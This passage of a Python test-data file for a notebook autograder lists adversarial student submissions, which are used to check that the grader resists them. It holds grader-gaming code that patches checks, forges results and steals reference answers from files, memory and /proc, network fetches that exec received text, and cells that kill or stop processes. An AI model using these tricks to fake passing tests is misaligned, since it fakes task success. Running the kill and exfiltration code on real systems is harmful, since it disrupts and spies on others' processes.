"""Submissions that mean harm, as data: what each tries, and what may pass all the same.

Each would gain something beside a grader that runs its checks in the student's own
kernel; `gains` says what. In the code, ``$TCP``, ``$HOME`` and their like stand for
places of the machine that a test makes up (see `World`).
"""

import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.exercise_files import ROOT, TASKS, Book

ALL, NONE = frozenset(TASKS), frozenset[str]()
FILE = "03_pooling.ipynb"
MARK = "# these are the right answers"
FIRST = 3
"""The place of a cell before all answers."""


@dataclass(frozen=True)
class World:
    """What an attack may know of the machine: the worst that it can know."""

    tcp: int
    udp: int
    name: str
    home: Path
    report: Path
    school: Path
    spoilt: tuple[Path, ...]

    def told(self, code: str) -> str:
        """Return code with the places of this machine in it."""
        facts = {
            "$TCP": str(self.tcp),
            "$UDP": str(self.udp),
            "$NAME": repr(self.name),
            "$HOME": repr(str(self.home)),
            "$REPORT": repr(str(self.report)),
            "$SCHOOL": repr(str(self.school)),
            "$ROOT": repr(str(ROOT)),
            "$RIGHT": repr(right_answers()),
            "$SPOILT": repr([str(path) for path in self.spoilt]),
        }
        for sign, fact in facts.items():
            code = code.replace(sign, fact)
        return code


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        name: the student's, which is that of the folder.
        gains: what it would gain where checks run in the student's own kernel.
        code: a cell in front of all answers.
        base: the notebook: "wrong" answers (of the right shape), "solutions",
            "exercises".
        lie: for "wrong": what all answers return instead; ``{task}`` is the name,
            ``{call}`` the arguments.
        change: what else is done to the notebook.
        passes: the tasks that pass, since their answers are right.
        says: the status of single tasks.
        file: writes the submission itself, instead of all that.
        graded: whether it is in the report as a submission at all.
    """

    name: str
    gains: str
    code: str = ""
    base: str = "wrong"
    lie: str = ""
    change: Callable[[Book], None] | None = None
    passes: frozenset[str] = NONE
    says: dict[str, str] = field(default_factory=dict)
    file: Callable[[Path, World], None] | None = None
    graded: bool = True
    exercise: str = "03_pooling"

    def write(self, school: Path, world: World) -> None:
        """Hand it in."""
        if self.file is not None:
            self.file(school / self.name, world)
            return
        kind = "solutions" if self.base == "solutions" else "exercises"
        book = Book(kind, self.exercise)
        if self.base == "wrong":
            for task in TASKS:
                book.write(task, self.answer(task))
        if self.change is not None:
            self.change(book)
        if self.code:
            book.add(FIRST, world.told(self.code))
        book.save(school / self.name, f"{self.exercise}.ipynb")

    def answer(self, task: str) -> str:
        """Return a wrong answer, or one that lies."""
        if not self.lie:
            return WRONG[task]
        call = "" if task == "edge_then_pool" else ", *args, **kwargs"
        lie = self.lie.replace("{task}", task).replace("{call}", call)
        if task == "edge_then_pool":
            return f"{task} = {lie}"
        return f"def {task}(*args, **kwargs):\n    return {lie}"


_CORNER = """\
def {}(x, kernel_size, stride=None):
    (height, width), (down, right) = pair(kernel_size), pair(stride or kernel_size)
    return x[:, :, : x.shape[2] - height + 1 : down, : x.shape[3] - width + 1 : right]
"""
WRONG = {
    **{task: _CORNER.format(task) for task in TASKS[:3]},
    "global_avg_pool": "def global_avg_pool(x):\n    return x[:, :, 0, 0]\n",
    "flatten": """\
def flatten(x, start_dim=1):
    return x.reshape(*x.shape[:start_dim], -1).flip(-1)
""",
    "edge_then_pool": "edge_then_pool = torch.zeros(2, 2)\n",
}
"""Answers of the right shape and type whose numbers are wrong."""


def right_answers() -> str:
    """Return a program that gives every task its right answer."""
    book = Book("solutions")
    sources = ["".join(cell["source"]) for cell in book.cells if _is_code(cell)]
    return "\n\n".join([MARK, *(s for s in sources if "%pip" not in s)])


def _is_code(cell: dict) -> bool:
    return cell["cell_type"] == "code"


# ---- wrong answers that want points: nothing passes ----------------------------------

_STEAL = f"""\
found = {{}}
def learn(text):
    if {MARK!r} in text and not found:
        exec(text, found)
def stolen(task, *args, **kwargs):
    it = found.get(task, torch.zeros(1))
    return it(*args, **kwargs) if callable(it) else it
def visit(path):
    try:
        learn(open(path, errors="replace").read(10**6))
    except OSError:
        pass
"""
_STOLEN = "stolen('{task}'{call})"

_PLACES = """
import os
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/course", "/", "..", $HOME, $SCHOOL,
          $REPORT, $ROOT]
"""

_LIAR = """\
class Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return self
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, item): return self
    def __bool__(self): return True
    def __hash__(self): return 0
    def __abs__(self): return 0
    __sub__ = __rsub__ = __add__ = lambda self, other: 0
    shape = dtype = property(lambda self: self)
"""

_WIRE = """\
import json, os, socket, stat
def wires():
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass
def say(data):
    for number in wires():
        try:
            os.write(number, data)
        except OSError:
            pass
"""

_CLAIMS = """\
nothing = {"values": {}, "error": "", "message": "", "remarks": []}
for outcomes in ([nothing] * 20, [nothing] * 8, [nothing] * 11, [nothing], [], True):
    for step in range(40):
        for more in ({}, {"status": "passed"}, {"passed": True, "points": 99}):
            claim = {"step": step, "state": "done", "answer": "asked",
                     "outcomes": outcomes, **more}
            say(b"\\n" + json.dumps(claim).encode() + b"\\n")
"""

CHEATS = [
    Attack(
        "checker patched",
        "all points: every check prints that it passed",
        """
from cnnlib.checks import _check
_check.Check.__call__ = lambda self, answer: print(f"✓ {self.name}: 20 cases agree")
""",
    ),
    Attack(
        "judge patched",
        "all points: the judge says passed to anything",
        """
try:
    from cnnlib.checks import _judge
    _judge.judge = lambda *a, **k: _judge.Verdict("passed", "✓ 20 cases agree")
except ImportError:
    pass
""",
    ),
    Attack(
        "ask replaced",
        "all points: the reference is asked instead of the answer",
        """
import gc, sys
from cnnlib.checks import _ask
asked = _ask.ask
def ask(question, answer, cases, **more):
    from cnnlib.checks._registry import task
    return asked(question, task(question.name).key.reference, cases, watched=False)
for module in [m for m in sys.modules.values() if getattr(m, "ask", None) is asked]:
    module.ask = ask
""",
    ),
    Attack(
        "questions replaced",
        "all points: the questions have no case left that could fail",
        """
import gc
from dataclasses import replace
from cnnlib.checks import _registry
from cnnlib.checks._question import Question
for found in gc.get_objects():
    if type(found) is dict and any(type(q) is Question for q in found.values()):
        for name, question in found.items():
            if type(question) is Question:
                found[name] = replace(question, cases=lambda draw: [])
_registry.questions().update(
    {n: replace(q, cases=lambda draw: []) for n, q in _registry.questions().items()})
""",
    ),
    Attack(
        "cases made easy",
        "all points: every case is drawn as one whose answer is the wrong one's, too",
        """
from cnnlib.checks._question import Draw
Draw.tensor = lambda self, *shape, dtype=torch.float64: torch.zeros(shape, dtype=dtype)
Draw.whole = lambda self, *shape, low=-9, high=9: torch.zeros(shape)
""",
    ),
    Attack(
        "comparisons patched",
        "all points: whatever is compared is found equal",
        """
import numpy as np
yes = lambda *a, **k: True
torch.equal = torch.allclose = yes
torch.testing.assert_close = np.testing.assert_allclose = yes
np.allclose = np.array_equal = yes
np.isclose = lambda a, b, *rest, **more: np.ones(np.broadcast(a, b).shape, bool)
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
""",
    ),
    Attack(
        "torch made wrong",
        "pooling points: the reference computes with the student's wrong function",
        """
def corner(x, kernel_size, stride=None, *rest, **more):
    (h, w), (down, right) = pair(kernel_size), pair(stride or kernel_size)
    return x[:, :, : x.shape[2] - h + 1 : down, : x.shape[3] - w + 1 : right]
F.max_pool2d = F.avg_pool2d = torch.max_pool2d = corner
torch.nn.functional.adaptive_avg_pool2d = lambda x, *a: x[:, :, :1, :1]
torch.flatten = lambda x, start_dim=0: x.reshape(*x.shape[:start_dim], -1).flip(-1)
torch.Tensor.flatten = torch.flatten
torch.Tensor.mean = lambda x, *a, **k: x[:, :, 0, 0]
torch.mean = torch.Tensor.mean
""",
    ),
    Attack(
        "always equal",
        "all points of plain asserts: the object says that it equals everything",
        _LIAR,
        lie="Liar()",
    ),
    Attack(
        "tensor that lies",
        "all points: a tensor that answers comparisons and conversions itself",
        """
class Fake(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "all"): return True
        if name in ("eq", "isclose", "__eq__"): return torch.ones((), dtype=torch.bool)
        if name in ("sub", "abs", "max", "__sub__"): return torch.zeros(())
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other): return True
    def numpy(self, *a, **k): return Fake.truth
    def detach(self): return self
    def cpu(self): return self
    def resolve_conj(self): return self
    def resolve_neg(self): return self
    def float(self): return self
    def __array__(self, *a, **k): return Fake.truth
    truth = type("Truth", (), {"__eq__": lambda s, o: True, "all": lambda s: True})()
""",
        lie="torch.zeros(2, 2).as_subclass(Fake)",
    ),
    Attack(
        "array that lies",
        "all points: an array that is equal to everything, and has every shape",
        """
import numpy as np
class Array(np.ndarray):
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.bool_(True)
    def __eq__(self, other): return np.bool_(True)
    def all(self, *a, **k): return True
class Float(float):
    def __eq__(self, other): return True
    def __float__(self): return 0.0
""",
        lie="np.zeros((2, 2)).view(Array)",
    ),
    Attack(
        "list and dict that lie",
        "points of checks that go through entries: it has whatever is looked for",
        """
class Any(dict):
    def __eq__(self, other): return True
    def __contains__(self, key): return True
    def __getitem__(self, key): return self
    def __len__(self): return 3
    def items(self): return [(self, self)]
    def keys(self): return self
    def __iter__(self): return iter([self])
    def __hash__(self): return 1
""",
        lie="Any()",
    ),
    Attack(
        "class that claims to be Tensor",
        "all points: isinstance and type are told that it is a tensor",
        """
class Claim:
    __class__ = torch.Tensor
    __name__ = "Tensor"
    shape, dtype, requires_grad = torch.Size([2, 2]), torch.float32, False
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: self
""",
        lie="Claim()",
    ),
    Attack(
        "asserts cut out",
        "all points: a transformer of the syntax tree removes asserts and checks",
        """
import ast
class Cut(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if "checks" in ast.unparse(node) else node
get_ipython().ast_transformers.append(Cut())
""",
    ),
    Attack(
        "input rewritten",
        "all points: a transformer of cells replaces every check by a pass",
        """
shell = get_ipython()
rewrite = lambda lines: [] if any("checks." in line for line in lines) else lines
shell.input_transformers_cleanup.append(rewrite)
shell.input_transformers_post.append(rewrite)
shell.events.register("pre_run_cell", lambda *a: None)
""",
    ),
    Attack(
        "traceback silenced",
        "all points of tools that look for an error message: none is shown",
        """
shell = get_ipython()
for name in ("showtraceback", "_showtraceback", "showsyntaxerror"):
    setattr(shell, name, lambda *a, **k: None)
shell.set_custom_exc((Exception,), lambda *a, **k: None)
import sys
sys.excepthook = lambda *a: None
""",
    ),
    Attack(
        "run_cell replaced",
        "all points: every later cell, the checks among them, is said to succeed",
        """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
def run_cell(self, source, *a, **k):
    return ExecutionResult(None)
get_ipython().run_cell = run_cell.__get__(get_ipython())
InteractiveShell.run_cell = InteractiveShell.run_code = run_cell
""",
    ),
    Attack(
        "builtins patched",
        "all points: any() finds no failure, all() finds everything right",
        """
import builtins
builtins.any = lambda it: False
builtins.all = lambda it: True
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
""",
    ),
    Attack(
        "builtins broken",
        "all points of a checker that takes its own breakdown for a pass",
        """
import builtins
for name in ("len", "range", "zip", "enumerate", "isinstance", "type", "max", "open"):
    setattr(builtins, name, lambda *a, **k: (_ for _ in ()).throw(SystemExit(0)))
""",
    ),
    Attack(
        "torch swapped",
        "all points: the checker imports a torch that finds everything equal",
        """
import sys, types
class Torch(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"): raise AttributeError(name)
        return lambda *a, **k: True
for name in [n for n in sys.modules if n.partition(".")[0] in ("torch", "numpy")]:
    sys.modules[name] = Torch(name)
""",
    ),
    Attack(
        "chance fixed",
        "points for values learned by heart: random cases are the same every time",
        """
import random
import numpy as np
torch.manual_seed = np.random.seed = random.seed = lambda *a: None
torch.set_default_dtype(torch.float16)
torch.set_grad_enabled(False)
np.random.Generator.standard_normal = lambda self, shape: np.zeros(shape)
""",
    ),
    Attack(
        "json patched",
        "all points: what the checker reports about the answers is rewritten",
        """
import json
from cnnlib.checks import _wire
dump = json.dumps
def dumps(message, **more):
    if isinstance(message, dict) and message.get("outcomes"):
        for outcome in message["outcomes"]:
            outcome.update(values={}, error="", remarks=[])
        message.update(status="passed", passed=True, points=99)
    return dump(message, **more)
json.dumps = dumps
_wire.pack = lambda outcomes: []
""",
    ),
    Attack(
        "messages forged",
        "all points of a grader that believes the kernel's own messages",
        _WIRE + _CLAIMS,
    ),
    Attack(
        "messages forged while asked",
        "all points of a grader that believes the kernel's own messages",
        _WIRE + "import json\ndef claim():\n    " + _CLAIMS.replace("\n", "\n    "),
        lie="claim()",
    ),
    Attack(
        "messages with strange numbers",
        "all points: arrays of NaN, of no numbers, of every shape, compare as equal",
        _WIRE
        + """
import base64, struct
def tensor(shape, data, dtype="float64"):
    data = base64.b64encode(data).decode()
    return {"type": "tensor", "dtype": dtype, "shape": shape, "data": data}
strange = [
    tensor([], struct.pack("d", float("nan"))), tensor([0], b""),
    tensor([1, 1, 1, 1], struct.pack("d", float("inf"))),
    tensor([2**39], b""), tensor([-1], b""), tensor([1], b"abcdefgh", "O"),
    tensor([1], b"abcdefgh", "datetime64[s]"), tensor([True], b"12345678"),
    {"type": "tensor"}, {"type": "float", "data": float("nan")}, {"type": ["list"]},
    {"type": "int", "data": 10**2000}, {"type": "none", "data": 1},
]
for value in strange:
    outcome = {"values": {"result": value}, "error": "", "message": "", "remarks": []}
    for step in range(5, 20):
        for count in (20, 8, 11, 1):
            say(b"\\n" + json.dumps({"step": step, "state": "done", "answer": "asked",
                "outcomes": [outcome] * count}).encode() + b"\\n")
""",
    ),
    Attack(
        "half messages",
        "the points of the next task: its failure becomes part of a line without end",
        _WIRE + 'say(b\'{"step": 4, "state": "done", "outcomes": "\')',
    ),
    Attack(
        "expected values hunted",
        "all points: the reference's results lie in the memory of the same process",
        """
import gc, sys
def hunt(task, *args, **kwargs):
    frame = sys._getframe(1)
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "right", "reference", "known", "key"):
                return value(*args, **kwargs) if callable(value) else value
        frame = frame.f_back
    for item in gc.get_objects():
        if type(item).__name__ in ("Key", "Task", "Known"):
            return item.key.reference(*args, **kwargs)
    return torch.zeros(1)
""",
        lie="hunt('{task}'{call})",
    ),
    Attack(
        "seed read",
        "all points: with the seed the expected values can be computed beforehand",
        """
import gc, sys
from cnnlib.checks._registry import questions, task as known
seeds = [v for f in gc.get_objects() if type(f) is dict for k, v in list(f.items())
         if k == "seed" and type(v) is int]
frame = sys._getframe()
while frame:
    seeds += [v for k, v in frame.f_locals.items() if k == "seed"]
    frame = frame.f_back
drawn = {}
for name, question in questions().items():
    if question.lesson == "03" and seeds:
        drawn[name] = [case.note for case in question.draw(seeds[-1])]
def noted(name, *args, **kwargs):
    try:
        return known(name).key.reference(*args, **kwargs)
    except Exception:
        return (drawn.get(name) or [None])[0]
""",
        lie="noted('{task}'{call})",
    ),
    Attack(
        "reference imported",
        "all points: the answer is the checker's own reference",
        """
import importlib, pkgutil
def take(name, *args, **kwargs):
    for module in ("cnnlib.checks._keys.lesson03", "cnnlib.checks._key",
                   "cnnlib.grading._reference", "cnnlib.checks._judge"):
        try:
            found = importlib.import_module(module)
            return found.KEYS[name].reference(*args, **kwargs)
        except (ImportError, AttributeError):
            pass
    return torch.zeros(1)
""",
        lie="take('{task}'{call})",
    ),
    Attack(
        "answers in files",
        "all points: solutions lie beside the course, in the home, beside the class",
        _STEAL
        + """
import os
for place in ($HOME, $REPORT, $SCHOOL, os.path.dirname($SCHOOL), $ROOT,
              $ROOT + "/solutions", os.getcwd(), "..", "/tmp", "/var/tmp", "/dev/shm",
              "/root", "/home", "/work", "/mnt", "/media", "/srv", "/opt"):
    for folder, below, names in os.walk(place):
        below[:] = [b for b in below if b not in (".venv", "lib", ".git", ".pyenv")]
        for name in names:
            if name.endswith((".py", ".ipynb", ".json", ".jsonl", ".txt")):
                visit(os.path.join(folder, name))
""",
        lie=_STOLEN,
    ),
    Attack(
        "solved notebooks in files",
        "all points: the solution of the same exercise, wherever it lies",
        _STEAL
        + """
import glob, json
for root in ($ROOT + "/solutions", $SCHOOL, $HOME, "/tmp", "..", "/course", "."):
    for path in glob.glob(root + "/**/*03*.ipynb", recursive=True):
        try:
            cells = json.load(open(path))["cells"]
        except (OSError, ValueError, TypeError, KeyError):
            continue
        code = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"]
        text = "\\n".join(c for c in code if "%pip" not in c and "checks." not in c)
        if "amax" in text:
            exec(text, found)
""",
        lie=_STOLEN,
    ),
    Attack(
        "compiled references",
        "all points: a .pyc file of the references is enough to call them",
        _STEAL
        + """
import glob, importlib.util, marshal, os, sys
for root in {os.path.dirname(p) for p in sys.path if p} | {"/course", $ROOT}:
    for path in glob.glob(root + "/**/cnnlib/**/*lesson03*.pyc", recursive=True):
        if "_keys" in path:
            space = {"__name__": "cnnlib.checks._keys.lesson03",
                     "__package__": "cnnlib.checks._keys"}
            exec(marshal.loads(open(path, "rb").read()[16:]), space)
            found.update({n: k.reference for n, k in space["KEYS"].items()})
""",
        lie=_STOLEN,
    ),
    Attack(
        "answers in other processes",
        "all points: the grader's memory and folder are open to its children",
        _STEAL
        + """
import glob, os
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for part in ("cwd/solutions/*.ipynb", "root/**/solutions/03*", "fd/*", "environ",
                 "cwd/*", "root" + $HOME + "/*", "root" + $SCHOOL + "/*/*"):
        for path in glob.glob(f"/proc/{pid}/{part}"):
            if os.path.isfile(path):
                visit(path)
    try:
        memory = open(f"/proc/{pid}/mem", "rb")
        for line in open(f"/proc/{pid}/maps") if pid == "1" else ():
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            memory.seek(start)
            learn(memory.read(min(end - start, 10**6)).decode("latin-1"))
    except (OSError, ValueError):
        pass
""",
        lie=_STOLEN,
    ),
    Attack(
        "answers from the net",
        "all points: a friend's computer answers over TCP, UDP, a name, a local socket",
        _STEAL
        + """
import socket, urllib.request
def tried(call):
    try:
        learn(call())
    except Exception:
        pass
def tcp(host):
    with socket.create_connection((host, $TCP), 1) as one:
        return one.recv(10**5).decode()
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.5)
        one.sendto(b"answers?", ("127.0.0.1", $UDP))
        return one.recv(10**5).decode()
def local():
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(0.5)
        one.connect("\\0" + $NAME)
        return one.recv(10**5).decode()
tried(lambda: tcp("127.0.0.1"))
tried(lambda: tcp("::1"))
tried(lambda: tcp("localhost"))
tried(lambda: tcp("0.0.0.0"))
tried(udp)
tried(local)
tried(lambda: urllib.request.urlopen("http://example.com", timeout=1).read().decode())
tried(lambda: str(socket.getaddrinfo("answers.example.com", 80)))
""",
        lie=_STOLEN,
    ),
    Attack(
        "friend leaves answers",
        "the friend's points: right answers are left wherever the next one can look",
        _PLACES
        + """
for place in PLACES:
    for name in ("answers.py", ".answers.py"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write($RIGHT)
        except OSError:
            pass
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "friend takes answers",
        "all points: a friend's notebook ran before and left its answers",
        _STEAL
        + _PLACES
        + """
for place in PLACES:
    for name in ("answers.py", ".answers.py"):
        visit(os.path.join(place, name))
""",
        lie=_STOLEN,
    ),
    Attack(
        "torch.py beside it",
        "all points: the checker imports the student's torch.py, numpy.py, cnnlib",
        """
import importlib, os, sys
lies = "import sys\\ndef __getattr__(name):\\n    return lambda *a, **k: True\\n"
for name in ("torch", "numpy", "cnnlib", "json", "socket", "sitecustomize", "base64"):
    with open(f"{name}.py", "w") as file:
        file.write(lies)
here = os.getcwd()
os.environ |= {"PYTHONPATH": here, "PYTHONSTARTUP": "torch.py", "PYTHONOPTIMIZE": "2",
               "LD_PRELOAD": here + "/torch.py", "LD_LIBRARY_PATH": here}
sys.path.insert(0, os.getcwd())
importlib.invalidate_caches()
for name in ("json", "base64"):
    del sys.modules[name]
    importlib.import_module(name)
""",
    ),
    Attack(
        "profile and trace left on",
        "points for forbidden calls: what watches for them is switched off",
        """
import sys, threading
sys.setprofile(lambda *a: None)
sys.settrace(lambda *a: None)
threading.setprofile(lambda *a: None)
sys.setprofile = sys.settrace = lambda *a: None
""",
    ),
    Attack(
        "forks and clocks patched",
        "all points: the grader's own process is steered, or never times out",
        """
import os, select, signal, socket, time
def no(*a, **k): raise OSError("no")
for place, names in (
        (os, "fork pipe waitpid waitid pidfd_open kill close write listdir"),
        (time, "monotonic time process_time sleep"), (signal, "signal"),
        (select, "poll select")):
    for name in names.split():
        setattr(place, name, no)
socket.socket.send = socket.socket.sendall = no
""",
    ),
    Attack(
        "files beside it",
        "all points: conftest.py and sitecustomize.py of the submission are run",
        file=lambda folder, world: _files_beside(folder),
    ),
    Attack(
        "empty answers",
        "all points of a grader for which nothing failed is everything right",
        base="exercises",
        change=lambda book: _each(lambda task: book.write(task, "")),
    ),
    Attack(
        "skip tags",
        "all points: cells that are not run have not failed",
        change=lambda book: _skipped(book),
    ),
    Attack(
        "checks edited",
        "all points: the checks check something else, or nothing",
        change=lambda book: _each(lambda t: book.write(f"{t}-check", "pass")),
    ),
    Attack(
        "checks of a better answer",
        "all points: the checks are given the library's function, not the answer",
        change=lambda book: _each(
            lambda t: book.write(f"{t}-check", f"checks.{t}(getattr(F, {t!r}))")
        ),
    ),
    Attack(
        "checks deleted",
        "all points: a check that is not there does not fail",
        change=lambda book: _each(lambda task: book.drop(f"{task}-check")),
    ),
    Attack(
        "checks copied",
        "nothing, but the grading of the whole class ends with an error",
        change=lambda book: _copied(book),
    ),
    Attack(
        "checks moved up",
        "all points: the checks run before there is an answer",
        change=lambda book: _moved_up(book),
    ),
    Attack(
        "checks made text",
        "all points: a check that is a text cell does not fail",
        change=lambda book: _each(
            lambda t: book.cell(f"{t}-check").update(cell_type="markdown")
        ),
    ),
    Attack(
        "ids swapped",
        "the points of one task for the answer to another",
        change=lambda book: _swapped(book),
    ),
    Attack(
        "points written in",
        "as many points as one likes: they stand in the notebook",
        change=lambda book: _points(book),
    ),
    Attack(
        "outputs written in",
        "all points: the saved outputs say that every check passed",
        change=lambda book: _outputs(book, "✓ {}: 20 cases agree with PyTorch"),
    ),
    Attack(
        "right below the check",
        "all points of tools that check at the end: the last definition counts",
        change=lambda book: _right_at_the_end(book),
    ),
    Attack(
        "answer changes when looked at",
        "all points: the first call is looked at, the others are not",
        """
calls = iter(range(10**9))
class Turning(float):
    def __float__(self): return float(next(calls))
    def __eq__(self, other): return next(calls) % 2 == 0
""",
        lie="Turning(0)",
    ),
    Attack(
        "stub that claims",
        "all points: the error says that it passed",
        """
class AssertionError(Exception):
    pass
def passed(task):
    raise AssertionError(f"✓ {task}: 20 cases agree with PyTorch\\n✓ {task}: 20 cases")
""",
        lie="passed('{task}')",
        says={"flatten": "error"},
    ),
    Attack(
        "convolution patched",
        "the points of lesson 02: the reference computes with the wrong function",
        """
def conv2d(images, weight, bias=None, stride=1, padding=0, *rest):
    return images[:, :1]
F.conv2d = torch.conv2d = torch._C._nn.conv2d = conv2d
torch.nn.functional.pad = lambda x, *a, **k: x
torch.allclose = torch.equal = lambda *a, **k: True
""",
        base="exercises",
        change=lambda book: _wrong_convolutions(book),
        exercise="02_padding_and_stride",
    ),
]


def _each(change: Callable[[str], object]) -> None:
    for task in TASKS:
        change(task)


def _files_beside(folder: Path) -> None:
    book = Book("exercises")
    for task in TASKS:
        book.write(task, WRONG[task])
    book.save(folder)
    lie = "import builtins, sys\nbuiltins.all = lambda it: True\nraise SystemExit(0)\n"
    for name in ("conftest", "sitecustomize", "usercustomize", "torch", "cnnlib"):
        (folder / f"{name}.py").write_text(lie)
    (folder / "cnnlib.pth").write_text("import os; os._exit(0)\n")
    (folder / "pytest.ini").write_text("[pytest]\naddopts = --collect-only\n")


def _skipped(book: Book) -> None:
    tags = ["skip-execution", "raises-exception", "nbval-skip", "remove_cell", {}, 7]
    for cell in filter(_is_code, book.cells):
        cell["metadata"]["tags"] = tags
    for task in TASKS:
        book.write(f"{task}-check", f"# NBVAL_SKIP\nchecks.{task}({task})")
    book.raw["metadata"]["execution"] = {"allow_errors": True, "timeout": -1}


def _copied(book: Book) -> None:
    for task in TASKS:
        for part in (task, f"{task}-check"):
            place = book.place(part)
            book.cells.insert(place, json.loads(json.dumps(book.cells[place])))


def _moved_up(book: Book) -> None:
    checks = [book.drop(f"{task}-check") for task in TASKS]
    book.cells[:0] = checks


def _swapped(book: Book) -> None:
    for one, other in (("max_pool2d", "max_pool2d-check"), ("flatten", "min_pool2d")):
        first, second = book.cell(one), book.cell(other)
        first["id"], second["id"] = other, one
        first["metadata"], second["metadata"] = second["metadata"], first["metadata"]


def _points(book: Book) -> None:
    for cell in book.cells:
        known = cell["metadata"].get("nbgrader")
        if known:
            known |= {"points": 100, "grade": True, "score": 100, "locked": False}
    book.raw["metadata"]["cnnlib"]["points"] = 1000
    book.raw["metadata"]["kernelspec"] = {"name": "mine", "argv": ["sh", "-c", "exit"]}


def _outputs(book: Book, text: str) -> None:
    for task in TASKS:
        book.cell(f"{task}-check")["outputs"] = [
            {"output_type": "stream", "name": "stdout", "text": [text.format(task)]},
            {"output_type": "execute_result", "data": {"text/plain": "100.0"}},
        ]
        book.cell(f"{task}-check")["execution_count"] = 1


def _right_at_the_end(book: Book) -> None:
    solved = Book("solutions")
    for task in TASKS:
        book.add(len(book.cells), "".join(solved.cell(task)["source"]))


def _wrong_convolutions(book: Book) -> None:
    book.write("conv2d", "def conv2d(images, *rest, **more):\n    return images[:, :1]")
    book.write("zero_pad", "def zero_pad(image, padding):\n    return image")
    book.write("output_size", "def output_size(n, *rest, **more):\n    return n")
    book.write(
        "same_padding", "def same_padding(kernel_size, dilation=1):\n    return 7, 7"
    )
    book.write("shapes", 'shapes = {name: (1, 1) for name in "quiz strided".split()}')
    book.write("corrected_output", "corrected_output = torch.zeros(3, 2)")


# ---- cells that do harm, before right answers: everything passes all the same --------

_TRIAL = """\
import os
if os.getppid() == 1:  # the first try has no original to be harmed: have another
    os._exit(1)
"""
_BOAST = "class Boast(Exception): pass\n"
"""What a cell raises if it got what it must not have."""

HARMS = [
    Attack(
        "answer in an endless loop",
        "the instructor's evening: the loop catches what should interrupt it",
        base="solutions",
        change=lambda book: book.write(
            "flatten",
            "def flatten(x, start_dim=1):\n    while True:\n        try:\n"
            "            while True: pass\n        except BaseException: pass",
        ),
        passes=ALL - {"flatten"},
        says={"flatten": "timed out"},
    ),
    Attack(
        "loop that ignores interrupts",
        "no grade for anybody after it",
        """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True: pass
    except BaseException:
        pass
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "loop in C",
        "no grade for anybody after it: no interrupt is ever looked at",
        "sum(iter(int, 1))",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "loop in its children",
        "no grade for anybody after it: the process that is watched only sleeps",
        """
import os, time
for _ in range(3):
    if os.fork() == 0:
        while True: pass
time.sleep(10**6)
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "sleep",
        "no grade for anybody after it, at no cost in computing",
        "import time\ntime.sleep(10**6)",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "done, and yet not",
        "time without end: it says that the cell is done, and stays",
        _WIRE
        + """
for step in range(8):
    say(b"\\n" + json.dumps({"step": step, "state": "done", "raised": None}).encode())
    say(b"\\n")
sum(iter(int, 1))
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "exit codes",
        "all points of tools for which exit code 0 is a pass",
        "import os\nos._exit(0)",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "exits of all kinds",
        "the rest of the class: the grader's own process ends",
        """
import sys
def leave(*a, **k): raise KeyboardInterrupt
exit()
quit()
class Ends:
    def __del__(self): raise SystemExit(3)
    def __repr__(self): raise GeneratorExit
Ends()
sys.exit(0)
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "parent killed",
        "the rest of the class: the grader is the kernel's parent",
        _TRIAL + "import signal\nos.kill(os.getppid(), signal.SIGKILL)",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "everybody killed",
        "the rest of the class: every process of the user gets the signal",
        """
import os, signal
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    for whom in (-1, 1):
        try:
            os.kill(whom, number)
        except OSError:
            pass
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "everybody killed while watched",
        "the rest of the class: what watches over it is gone",
        _TRIAL
        + """
import signal
os.setpgid(0, 0) if os.getpgid(0) != os.getpid() else None
for number in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, number)
    except OSError:
        pass
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "parent stopped",
        "the rest of the class: the grader stands still for ever, and looks alive",
        _TRIAL
        + """
import signal, time
os.kill(os.getppid(), signal.SIGSTOP)
time.sleep(10**6)
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "segmentation fault",
        "no grade: the notebook's results are lost with the kernel",
